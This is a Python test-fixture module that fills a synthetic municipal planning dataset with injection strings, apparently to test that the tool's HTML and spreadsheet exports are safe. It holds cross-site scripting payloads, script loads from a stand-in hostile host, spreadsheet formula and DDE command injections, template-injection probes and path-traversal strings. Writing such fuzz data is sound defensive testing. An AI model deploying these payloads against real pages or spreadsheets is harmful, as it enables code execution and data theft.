"""Texts that try to run, to compute or to break a page, and a country and a plan full of them."""

from __future__ import annotations

from dataclasses import dataclass, replace
from typing import TYPE_CHECKING, Any

import rollouts
from country import country_tables, make_country, outline_features
from planner.analysis.replay import Case, Date, Step
from planner.calendar.calendar import make_calendar
from planner.case.read import read_inputs
from planner.case.travel import travel_matrix
from planner.plan import Assumption
from planner.scenario.values import Text

if TYPE_CHECKING:
    from collections.abc import Sequence
    from pathlib import Path

    from country import Rows
    from planner.calendar.calendar import Calendar
    from planner.case.travel import Travel
    from planner.case.types import Inputs
    from planner.plan import Plan
    from planner.scenario.spec import Scenario

# What runs in a page says so: it sets window.ran, opens a dialog or asks for an address.
RUNS = "window.ran=1"
MARKUP = (
    f"<script>{RUNS}</script>",
    f"<ScRiPt>{RUNS}</sCrIpT>",
    f"</script><script>{RUNS}</script>",
    f"</style><script>{RUNS}</script>",
    f"</title><script>{RUNS}</script>",
    f"</textarea><script>{RUNS}</script>",
    f"--><script>{RUNS}</script>",
    f"]]><script>{RUNS}</script>",
    f"<!--<script>{RUNS}</script>",
    "</script >",
    "<script src=https://hostile.invalid/x.js></script>",
    "<script type=module>import('https://hostile.invalid/x.js')</script>",
    f"<img src=x onerror={RUNS}>",
    f"<img/src='x'/onerror='{RUNS}'>",
    f'"><img src=x onerror={RUNS}>',
    f"'><img src=x onerror={RUNS}>",
    "<img src=https://hostile.invalid/p.png>",
    "<img srcset=https://hostile.invalid/p.png>",
    f"<svg onload={RUNS}>",
    f"<svg/onload={RUNS}//",
    f"</svg><svg onload={RUNS}>",
    f"<svg><script>{RUNS}</script></svg>",
    f"<svg><animate onbegin={RUNS} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUNS} />#x'/></svg>",
    f"<math><mtext></mtext><img src=x onerror={RUNS}></math>",
    f"<body onload={RUNS}>",
    f"<details open ontoggle={RUNS}>x</details>",
    f"<input autofocus onfocus={RUNS}>",
    f"<select autofocus onfocus={RUNS}>",
    f"<video><source onerror={RUNS}></video>",
    "<video poster=https://hostile.invalid/p.png>",
    f"<audio src=x onerror={RUNS}>",
    f"<marquee onstart={RUNS}>x</marquee>",
    f"<iframe srcdoc='<script>parent.{RUNS}</script>'></iframe>",
    f"<iframe src=javascript:{RUNS}></iframe>",
    "<iframe src=https://hostile.invalid/></iframe>",
    f"<object data=javascript:{RUNS}>",
    f"<embed src=javascript:{RUNS}>",
    "<object data=https://hostile.invalid/x>",
    "<link rel=stylesheet href=https://hostile.invalid/x.css>",
    "<link rel=prefetch href=https://hostile.invalid/x>",
    "<meta http-equiv=refresh content='0;url=https://hostile.invalid/'>",
    "<base href=https://hostile.invalid/>",
    f"<form action=javascript:{RUNS}><button autofocus>x</button></form>",
    "<style>@import 'https://hostile.invalid/x.css'; body{display:none}</style>",
    "<style>*{background:url(https://hostile.invalid/x)}</style>",
    "</div></div></main></body></html>",
    "<table><td><tr></table><table>",
    "<plaintext>",
    "<xmp>",
    "<template><slot>",
    "<!--",
    "<![CDATA[",
    "<?xml version='1.0'?>",
    "<a href=https://hostile.invalid/ target=_blank>x</a>",
    f"<div style='position:fixed;inset:0;background:red' onmouseover={RUNS}>",
)
ATTRIBUTES = (
    f'" onfocus="{RUNS}" autofocus x="',
    f"' onmouseover='{RUNS}' x='",
    f'" style="position:fixed" onclick="{RUNS}',
    f"` onerror=`{RUNS}",
    f'x" onload={RUNS} y="',
    "&quot; onload=&quot;x",
    f"&lt;script&gt;{RUNS}&lt;/script&gt;",
    f"&#60;script&#62;{RUNS}&#60;/script&#62;",
    "&amp;lt;b&amp;gt;",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "%3Cscript%3E",
)
SCRIPTS = (
    "${" + RUNS + "}",
    "`${" + RUNS + "}`",
    "`;" + RUNS + ";`",
    f"';{RUNS};'",
    f'";{RUNS};"',
    f'"}}];{RUNS};//',
    f"\\';{RUNS};//",
    f'\\";{RUNS};//',
    f"*/{RUNS}/*",
    f"//\u2028{RUNS}//",
    f"//\u2029{RUNS}//",
    "#{" + RUNS + "}",
    "{{constructor.constructor('" + RUNS + "')()}}",
    "{{7*7}}",
    "{% include 'report.html' %}",
    "{% raw %}",
    "{# comment",
    "{0.__class__.__init__.__globals__}",
    "{town}",
    "%(town)s %s %n %x",
    "__proto__",
    "constructor",
    "toString",
)
LINKS = (
    f"javascript:{RUNS}",
    f"JaVaScRiPt:{RUNS}",
    f"java\tscript:{RUNS}",
    f" javascript:{RUNS}",
    f"javascript://%0a{RUNS}",
    "data:text/html,<script>parent.ran=1</script>",
    "vbscript:msgbox(1)",
    "https://hostile.invalid/",
    "//hostile.invalid/x",
    "mailto:x@hostile.invalid",
    "file:/etc/passwd",
    "internal:'Kontor'!A1",
    "external:c:\\x.xlsx",
)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://hostile.invalid/","x")',
    '=WEBSERVICE("https://hostile.invalid/")',
    '=IMPORTXML("https://hostile.invalid/","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "x\n=1+1",
    "x;=1+1",
    'x",=1+1',
    '"=1+1"',
    "'=1+1",
    "＝1+1",  # noqa: RUF001 - the full-width signs are the point
    "＠SUM(A1)",  # noqa: RUF001
    "{=1+1}",
    '&A&P&[Path]&"Wingdings"',
    "[Red]0;@",
)  # fmt: skip
SPELLINGS = (
    "\u202egnal a\u202c",
    "\u2066\u2067x",
    "\u200fשלום\u200e",  # noqa: RUF001
    "شركة التعليم",
    "a\u0000b",
    "a\u0007\u001b[31mred\u001b[0m",
    "\ufeffx\u200b\u00ad",
    "\U000e0041\U000e0042",
    "Z" + "\u0337\u0358\u0489" * 20 + "algo",
    "W" * 200,
    "W" * 60 + "-" + "M" * 60,
    "\u00a0".join("abcdefghij" * 5),
    "学校" * 60,
    "👩‍👩‍👧‍👦" * 25,
    "ﷺ" * 30,
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "CON",
    "NULL",
    "NaN",
    "O\u0308stersund",
)
STRINGS = (*MARKUP, *ATTRIBUTES, *SCRIPTS, *LINKS, *FORMULAS, *SPELLINGS)

PERIODS = (
    {"name": "2022H2", "starts": "2022-09-01", "months": 4},
    {"name": "2023", "months": 12},
)
COLUMNS = 15
"""Municipalities in a row of the country's grid."""


@dataclass(frozen=True)
class Material:
    """What exports are made of; every text in it is one of the given, or all of them."""

    plan: Plan
    inputs: Inputs
    scenario: Scenario
    calendar: Calendar
    travel: Travel
    steps: tuple[Step, ...]


def make_material(folder: Path, texts: Sequence[str]) -> Material:
    """Make a country with a municipality, a county, an office and so on for each text.

    The tables are read from files with plain names and then renamed, since the readers refuse
    some of these texts: an export must be safe without them.
    """
    towns = {f"{n:04}": ("", *reversed(_place(n))) for n in range(len(texts))}
    made = make_country(folder, _tables(len(texts)), features=outline_features(towns))
    inputs = _renamed(read_inputs(made), texts)
    scenario = _scenario(inputs, texts)
    held = {f"{n:04}": [(f"{n:04}", 1), (f"{n:04}", 1)] for n in range(len(texts))}
    plan = replace(
        rollouts.plan(inputs, held, periods=PERIODS),
        assumptions=tuple(
            Assumption(key, q.value, q.unit, q.low, q.high, q.source)
            for key, q in scenario.quantities().items()
        ),
    )
    travel = travel_matrix(inputs)
    everything = Text.model_construct(sv=" ".join(texts), en=" ".join(texts))
    date = Date.model_construct(date=" ".join(texts), title=everything, text=everything, best="b")
    roles = ("announced", "actual", "best")
    cases = (
        Case("announced", scenario, None, (("opens", {"town": texts[0], "period": texts[1]}),)),
        *(Case(role, scenario, plan) for role in roles[1:]),
    )
    return Material(
        plan=plan,
        inputs=inputs,
        scenario=scenario,
        calendar=make_calendar(plan, inputs, scenario, travel),
        travel=travel,
        steps=(Step(date, cases),),
    )


def _tables(count: int) -> dict[str, Rows]:
    """Return the tables of a country of squares, each its own county, with roads to the next."""
    first = {name: rows[0] for name, rows in country_tables().items()}
    codes = [f"{n:04}" for n in range(count)]
    places = [_place(n) for n in range(count)]
    at = [{"lat": lat, "lon": lon} for lat, lon in places]
    links = [
        (a, b)
        for a in range(count)
        for b in ((a + 1) if (a + 1) % COLUMNS else count, a + COLUMNS)
        if b < count
    ]
    pairs = [{"code_a": codes[a], "code_b": codes[b]} for a, b in links]
    rows: dict[str, Rows] = {
        "counties": [first["counties"] | {"code": c, "name": f"Län {c}"} for c in codes],
        "municipalities": [
            first["municipalities"] | {"code": c, "name": f"Ort {c}", "seat": f"Ort {c}"}
            | {"county_code": c} | spot
            for c, spot in zip(codes, at, strict=True)
        ],
        "adjacency": [dict(pair) for pair in pairs],
        "roads": [pair | {"km": 30, "minutes": 30, "kind": "road"} for pair in pairs],
        "principals": [
            first["principals"] | {"orgnr": f"P{c}", "municipality_code": c} for c in codes
        ],
        "demand": [first["demand"] | {"municipality_code": c} for c in codes],
        "campuses": [
            first["campuses"] | {"institution": f"H{c}", "municipality_code": c} | spot
            for c, spot in zip(codes, at, strict=True)
        ],
        "sister_sites": [
            first["sister_sites"] | {"name": f"S{c}", "municipality_code": c} | spot
            for c, spot in zip(codes, at, strict=True)
        ],
        "announced": [
            first["announced"] | {"town": f"Ort {c}", "municipality_code": c} for c in codes
        ],
    }  # fmt: skip
    return rows


def _place(n: int) -> tuple[float, float]:
    return round(65.0 - 0.04 * (n // COLUMNS), 2), round(13.0 + 0.12 * (n % COLUMNS), 2)


def _renamed(inputs: Inputs, texts: Sequence[str]) -> Inputs:
    """Put the texts in every column of words, each in a row of its own, and all where one is."""
    every = list(texts)
    country = replace(
        inputs.country,
        name=" ".join(texts),
        agency=" ".join(texts),
        sister_agency=texts[0],
        attribution=tuple(texts),
    )
    columns: dict[str, dict[str, Any]] = {
        "counties": {"name": every, "state_area": every},
        "municipalities": {"name": every, "seat": every},
        "principals": {"name": every, "school_forms": every},
        "campuses": {"institution": every, "short": every, "campus_town": every},
        "sister_sites": {"town": every, "name": every},
        "announced": {"town": every, "note": every},
    }
    tables = {name: getattr(inputs, name).assign(**new) for name, new in columns.items()}
    return replace(inputs, country=country, **tables)


def _scenario(inputs: Inputs, texts: Sequence[str]) -> Scenario:
    """Return a scenario with every text as the unit and the source of some number."""
    plain = rollouts.scenario(PERIODS)
    words = Text.model_construct(sv=" ".join(texts), en=" ".join(texts))
    number = plain.thresholds.beyond_km
    existing = {
        code: number.model_copy(update={"unit": text, "source": text})
        for code, text in zip(inputs.municipalities.index, texts, strict=True)
    }
    assert plain.staffing is not None
    staffing = plain.staffing.model_copy(update={"existing": existing})
    return plain.model_copy(update={"title": words, "description": words, "staffing": staffing})
